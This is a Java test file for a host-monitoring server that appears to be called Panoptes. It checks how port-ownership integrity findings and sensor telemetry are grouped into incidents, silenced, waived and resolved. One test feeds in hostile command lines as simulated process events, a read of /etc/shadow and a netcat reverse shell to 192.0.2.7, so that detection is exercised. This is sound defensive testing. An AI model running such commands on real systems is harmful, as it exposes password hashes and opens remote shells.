package dev.panoptes.server.detections;

import static org.assertj.core.api.Assertions.assertThat;

import dev.panoptes.integrity.observed.Snapshot;
import dev.panoptes.integrity.observed.Snapshot.Coverage;
import dev.panoptes.integrity.observed.Snapshot.Owner;
import dev.panoptes.integrity.observed.Snapshot.Source;
import dev.panoptes.integrity.observed.SnapshotJson;
import dev.panoptes.server.TestServer;
import dev.panoptes.server.storage.DatabaseAddress;
import dev.panoptes.server.storage.TestPostgres;
import dev.panoptes.server.storage.TestPostgres.Databases;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/** What integrity finds and what sensors see meet in one incident, and the registry is evidence for and against. */
@ExtendWith(TestPostgres.class)
class IntentOfFleetTest {
    private static final String REGISTRY = """
            version: '1.0'
            hosts:
              web-1: {address: 10.0.0.5}
            agents:
              hermes:
                name: HERMES
                host: web-1
                exe: /opt/hermes/hermes
                unit: hermes.service
                connection: {url: 'http://10.0.0.5:18014'}
                actions: {notify: {endpoint: /notify, method: POST}}
            """;

    @TempDir
    Path directory;

    private final AtomicReference<Instant> now = new AtomicReference<>(Instant.parse("2026-03-01T12:00:00Z"));

    private TestServer server(Databases databases) throws IOException, InterruptedException {
        return TestServer.start(databases, directory, settings(), now::get);
    }

    private Map<String, String> settings() throws IOException {
        Path registry = Files.writeString(directory.resolve("agent-registry.yaml"), REGISTRY);
        return Map.of("registry", registry.toString(), "observe.local", "false", "watch.interval", "1h");
    }

    private TestServer replica(Databases databases, DatabaseAddress address, String name)
            throws IOException, InterruptedException {
        Path own = Files.createDirectories(directory.resolve(name));
        return TestServer.start(databases, address, own, settings(), now::get);
    }

    private String snapshot(String program) throws IOException {
        Owner owner =
                new Owner(4711, 1, 1, 0, program, false, "/", List.of(program), null, null, null, null, null, null);
        Snapshot snapshot = new Snapshot(
                Snapshot.SCHEMA,
                new Snapshot.HostIdentity("id-of-web-1", "web-1", null, "boot-1"),
                now.get(),
                "a test",
                Map.of(Source.SOCKETS, new Coverage.Complete(), Source.OWNERS, new Coverage.Complete()),
                List.of(new Snapshot.Listener("tcp", "0.0.0.0", 18014, false, 1, 0, List.of(owner), null)),
                List.of(),
                List.of());
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new SnapshotJson().write(snapshot, out);
        return out.toString(StandardCharsets.UTF_8);
    }

    private void scan(TestServer server, String token, String program) throws IOException, InterruptedException {
        assertThat(server.call(
                                "POST",
                                "/api/v1/snapshots",
                                snapshot(program),
                                Map.of("Authorization", "Bearer " + token))
                        .status())
                .isEqualTo(201);
        assertThat(server.post("/scan", "").status()).isEqualTo(200);
        now.updateAndGet(time -> time.plusSeconds(30));
    }

    private void unit(TestServer server, String token, String id, String unit)
            throws IOException, InterruptedException {
        String event = "{\"@timestamp\":\"" + now.get() + "\",\"event\":{\"id\":\"" + id
                + "\",\"action\":\"created\",\"dataset\":\"panoptes.persistence\"},\"host\":{\"name\":\"web-1\"},"
                + "\"persistence\":{\"kind\":\"systemd_service\",\"name\":\"" + unit
                + "\",\"path\":\"/etc/systemd/system/" + unit + "\",\"runs\":\"/usr/local/sbin/helper\"},\"file\":"
                + "{\"path\":\"/etc/systemd/system/" + unit
                + "\"},\"threat\":{\"technique\":{\"id\":[\"T1543.002\"]}}}";
        String body = "{\"stream\":\"" + UUID.randomUUID()
                + "\",\"sensor\":\"persistence\",\"first\":1,\"count\":1,\"lost\":[]}\n" + event + "\n";
        assertThat(server.call(
                                "POST",
                                "/api/v1/telemetry",
                                body,
                                Map.of("Authorization", "Bearer " + token, "Content-Type", "application/x-ndjson"))
                        .status())
                .isEqualTo(200);
        now.updateAndGet(time -> time.plusSeconds(60));
    }

    private static List<JsonNode> findings(TestServer server, String name) throws IOException, InterruptedException {
        return server.get("/api/v1/findings?limit=200")
                .json()
                .path("items")
                .valueStream()
                .filter(one -> one.path("name").asString().equals(name))
                .toList();
    }

    @Test
    void aTakenPortAndTheUnitOfAMinuteBeforeAreOneIncident(Databases databases)
            throws IOException, InterruptedException {
        try (TestServer server = server(databases)) {
            String token = server.token("observer");
            scan(server, token, "/opt/hermes/hermes");
            assertThat(findings(server, "integrity.listener-owner")).isEmpty();

            unit(server, token, "u1", "sync-helper.service");
            scan(server, token, "/usr/local/sbin/helper");

            JsonNode taken = findings(server, "integrity.listener-owner").getFirst();
            assertThat(taken.path("severity").asString()).isEqualTo("high");
            assertThat(taken.path("host").asString()).isEqualTo("web-1");
            JsonNode incidents = server.get("/api/v1/incidents").json().path("items");
            assertThat(incidents.size()).as(incidents.toString()).isEqualTo(1);
            JsonNode details = server.get(
                            "/api/v1/incidents/" + incidents.get(0).path("id").asString())
                    .json()
                    .path("details");
            assertThat(details.path("events").toString()).contains("u1", "issue-");
            assertThat(details.path("entities").toString()).contains("/usr/local/sbin/helper");
            assertThat(details.path("contributions").toString())
                    .contains("the unit sync-helper.service came from no package and nobody declares it");
            assertThat(details.path("chain").toString()).contains("T1543.002", "T1036");

            // The same once more is no other finding, and its end takes nothing away that somebody may want to know.
            scan(server, token, "/usr/local/sbin/helper");
            assertThat(findings(server, "integrity.listener-owner")).hasSize(1);
            scan(server, token, "/opt/hermes/hermes");
            assertThat(server.get("/api/v1/incidents").json().path("items").size())
                    .isEqualTo(1);
        }
    }

    @Test
    void whatTheRegistryOrAMaintenanceDeclaresIsLoweredAndSaysSo(Databases databases)
            throws IOException, InterruptedException {
        try (TestServer server = server(databases)) {
            String token = server.token("observer");
            scan(server, token, "/opt/hermes/hermes");
            unit(server, token, "u1", "hermes.service");
            assertThat(server.get("/api/v1/incidents").json().path("items").size())
                    .isZero();

            assertThat(server.post(
                                    "/api/v1/silences",
                                    "{\"matcher\":{\"host\":\"web-*\"},\"reason\":\"moving house\",\"duration\":\"1h\"}")
                            .status())
                    .isEqualTo(201);
            now.updateAndGet(time -> time.plusSeconds(5));
            scan(server, token, "/usr/local/sbin/helper");
            JsonNode taken = findings(server, "integrity.listener-owner").getFirst();
            assertThat(taken.path("severity").asString()).isEqualTo("medium");
            assertThat(taken.path("details").path("intent").toString())
                    .contains("\"levels\":-1", "maintenance is declared: moving house");
        }
    }

    /** The level speaks of what sensors look at; an incident of issues alone stands beside it. */
    @Test
    void anIncidentOfIssuesAloneMakesNoLevelWhereNoSensorReports(Databases databases)
            throws IOException, InterruptedException {
        try (TestServer server = server(databases)) {
            String token = server.token("observer");
            scan(server, token, "/opt/hermes/hermes");
            scan(server, token, "/usr/local/sbin/helper");

            assertThat(server.get("/api/v1/incidents").json().path("items").size())
                    .isEqualTo(1);
            assertThat(server.get("/api/v1/threat").json().path("level").asString())
                    .isEqualTo("UNKNOWN");

            process(server, token, "p1", now.get(), "true");
            assertThat(server.get("/api/v1/threat").json().path("level").asString())
                    .isNotEqualTo("UNKNOWN");
        }
    }

    private void process(TestServer server, String token, String id, Instant at, String line)
            throws IOException, InterruptedException {
        String event = "{\"@timestamp\":\"" + at + "\",\"event\":{\"id\":\"" + id
                + "\",\"action\":\"process_started\",\"dataset\":\"panoptes.proc\"},\"host\":{\"name\":\"web-1\"},"
                + "\"process\":{\"executable\":\"/usr/bin/" + line.split(" ")[0] + "\",\"command_line\":\"" + line
                + "\"}}";
        assertThat(server.call(
                                "POST",
                                "/api/v1/telemetry",
                                "{\"stream\":\"" + UUID.randomUUID()
                                        + "\",\"sensor\":\"proc\",\"first\":1,\"count\":1,\"lost\":[]}\n" + event
                                        + "\n",
                                Map.of("Authorization", "Bearer " + token, "Content-Type", "application/x-ndjson"))
                        .status())
                .isEqualTo(200);
    }

    @Test
    void whatComesWithinTheLatenessJoinsAndWhatComesLaterStandsForItself(Databases databases)
            throws IOException, InterruptedException {
        try (TestServer server = server(databases)) {
            String token = server.token("observer");
            Instant then = now.get();
            process(server, token, "p1", then, "cat /etc/shadow");
            now.set(then.plusSeconds(23 * 3_600));
            process(server, token, "p2", then.plusSeconds(60), "nc -e /bin/sh 192.0.2.7 4444");
            assertThat(server.get("/api/v1/incidents").json().path("items").size())
                    .isEqualTo(1);
            now.set(then.plusSeconds(25 * 3_600));
            process(server, token, "p3", then.plusSeconds(90), "cat /etc/shadow");
            process(server, token, "p4", then.plusSeconds(120), "nc -e /bin/sh 192.0.2.8 4444");
            JsonNode incidents = server.get("/api/v1/incidents").json().path("items");
            assertThat(incidents.size()).as(incidents.toString()).isEqualTo(2);
            for (JsonNode incident : incidents) {
                String details = server.get(
                                "/api/v1/incidents/" + incident.path("id").asString())
                        .json()
                        .path("details")
                        .toString();
                boolean late = details.contains("\"p3\"");
                assertThat(details.contains("\"p4\"")).isEqualTo(late);
                assertThat(details.contains("\"p1\"")).isEqualTo(!late);
                assertThat(details.contains("came too late")).isEqualTo(late);
            }
        }
    }

    private static JsonNode only(TestServer server) throws IOException, InterruptedException {
        JsonNode incidents = server.get("/api/v1/incidents").json().path("items");
        assertThat(incidents.size()).as(incidents.toString()).isEqualTo(1);
        return server.get("/api/v1/incidents/" + incidents.get(0).path("id").asString())
                .json();
    }

    private static List<String> withdrawn(JsonNode incident) {
        return incident.path("details")
                .path("timeline")
                .valueStream()
                .filter(moment -> moment.path("withdrawn").asBoolean(false))
                .map(moment -> moment.path("text").asString())
                .toList();
    }

    private static long moves(TestServer server, String to) {
        return server.database()
                .transaction(transaction -> transaction.one(
                        "SELECT count(*) AS n FROM changes WHERE kind = 'incident' AND to_state = ?",
                        row -> row.bigint("n"),
                        to));
    }

    @Test
    void anIncidentWhoseIssuesAreOverIsResolvedAndOpensAgainWithThem(Databases databases)
            throws IOException, InterruptedException {
        try (TestServer server = server(databases)) {
            String token = server.token("observer");
            scan(server, token, "/opt/hermes/hermes");
            scan(server, token, "/usr/local/sbin/helper");
            JsonNode open = only(server);
            assertThat(open.path("state").asString()).isEqualTo("open");
            assertThat(withdrawn(open)).isEmpty();

            scan(server, token, "/opt/hermes/hermes");
            JsonNode over = only(server);
            assertThat(over.path("state").asString()).as(over.toString()).isEqualTo("resolved");
            assertThat(withdrawn(over)).anyMatch(text -> text.contains("its issue is resolved: "));
            assertThat(over.path("details").path("withdrawn").asBoolean()).isTrue();
            assertThat(over.path("details").path("findings"))
                    .isEqualTo(open.path("details").path("findings"));

            // Nothing of it changes where the same is said again.
            scan(server, token, "/opt/hermes/hermes");
            assertThat(only(server)).isEqualTo(over);
            assertThat(moves(server, "resolved")).isEqualTo(1);

            scan(server, token, "/usr/local/sbin/helper");
            JsonNode again = only(server);
            assertThat(again.path("id")).isEqualTo(open.path("id"));
            assertThat(again.path("state").asString()).isEqualTo("open");
            assertThat(again.path("details").has("withdrawn")).isFalse();
            assertThat(withdrawn(again)).isEqualTo(withdrawn(over));

            now.updateAndGet(time -> time.plusSeconds(10 * 3_600));
            scan(server, token, "/opt/hermes/hermes");
            now.updateAndGet(time -> time.plusSeconds(10 * 3_600));
            scan(server, token, "/usr/local/sbin/helper");
            JsonNode incidents = server.get("/api/v1/incidents").json().path("items");
            assertThat(incidents
                            .valueStream()
                            .map(one -> one.path("state").asString())
                            .toList())
                    .containsExactlyInAnyOrder("open", "resolved");
        }
    }

    @Test
    void ofAnIncidentThatASensorSawTooTheTimelineTellsWhatIsWithdrawn(Databases databases)
            throws IOException, InterruptedException {
        try (TestServer server = server(databases)) {
            String token = server.token("observer");
            scan(server, token, "/opt/hermes/hermes");
            unit(server, token, "u1", "sync-helper.service");
            scan(server, token, "/usr/local/sbin/helper");
            scan(server, token, "/opt/hermes/hermes");

            JsonNode told = only(server);
            assertThat(told.path("state").asString()).isEqualTo("open");
            assertThat(withdrawn(told)).isNotEmpty();
            assertThat(told.path("details").has("withdrawn")).isFalse();

            // What sensors tell after that takes nothing of it away.
            unit(server, token, "u2", "other-helper.service");
            assertThat(only(server).path("details").path("events").toString()).contains("u1", "u2");
            assertThat(withdrawn(only(server))).isEqualTo(withdrawn(told));
        }
    }

    /** As where the server is killed between the two: the issue and the incident end together or not at all. */
    @Test
    void issueAndIncidentEndInOneTransaction(Databases databases) throws IOException, InterruptedException {
        try (TestServer server = server(databases)) {
            String token = server.token("observer");
            scan(server, token, "/opt/hermes/hermes");
            scan(server, token, "/usr/local/sbin/helper");
            String issue = listenerOwner(server);
            String waiver = "{\"owner\": \"eva\", \"reason\": \"a move\", \"expires\": \"2026-04-01\"}";
            server.database().execute(transaction -> transaction.update("""
                    CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS
                    $$ BEGIN RAISE EXCEPTION 'killed'; END $$"""));
            server.database()
                    .execute(transaction ->
                            transaction.update("CREATE TRIGGER refuse BEFORE UPDATE ON incidents FOR EACH"
                                    + " ROW EXECUTE FUNCTION refuse()"));
            assertThat(server.post("/api/v1/integrity/issues/" + issue + "/waive", waiver)
                            .status())
                    .isGreaterThanOrEqualTo(500);
            assertThat(server.get("/api/v1/integrity/issues/" + issue)
                            .json()
                            .path("state")
                            .asString())
                    .isEqualTo("new");
            server.database().execute(transaction -> transaction.update("DROP TRIGGER refuse ON incidents"));

            assertThat(server.post("/api/v1/integrity/issues/" + issue + "/waive", waiver)
                            .status())
                    .isEqualTo(200);
            JsonNode told = only(server);
            assertThat(withdrawn(told)).anyMatch(text -> text.contains("its issue is waived (waived by eva until"));
            assertThat(told.path("state").asString()).as(told.toString()).isEqualTo("resolved");
            assertThat(moves(server, "resolved")).isEqualTo(1);
        }
    }

    @Test
    void replicasThatEndAnIssueAtOnceResolveItsIncidentOnce(Databases databases)
            throws IOException, InterruptedException, ExecutionException {
        DatabaseAddress address = databases.freshAddress();
        try (TestServer one = replica(databases, address, "one");
                TestServer two = replica(databases, address, "two");
                TestServer three = replica(databases, address, "three");
                ExecutorService threads = Executors.newFixedThreadPool(3)) {
            String token = one.token("observer");
            scan(one, token, "/opt/hermes/hermes");
            scan(one, token, "/usr/local/sbin/helper");
            String path = "/api/v1/integrity/issues/" + listenerOwner(one) + "/waive";
            String waiver = "{\"owner\": \"eva\", \"reason\": \"a move\", \"expires\": \"2026-04-01\"}";
            List<Future<Integer>> statuses = new ArrayList<>();
            for (TestServer server : List.of(one, two, three)) {
                statuses.add(threads.submit(() -> server.post(path, waiver).status()));
            }
            for (Future<Integer> status : statuses) {
                assertThat(status.get()).isEqualTo(200);
            }
            assertThat(only(two).path("state").asString()).isEqualTo("resolved");
            assertThat(withdrawn(only(three))).hasSize(1);
            assertThat(moves(one, "resolved")).isEqualTo(1);
        }
    }

    private static String listenerOwner(TestServer server) {
        return server.database()
                .transaction(transaction -> transaction.one(
                        "SELECT issue_id FROM issues WHERE check_id = 'listener-owner'", row -> row.text("issue_id")));
    }
}
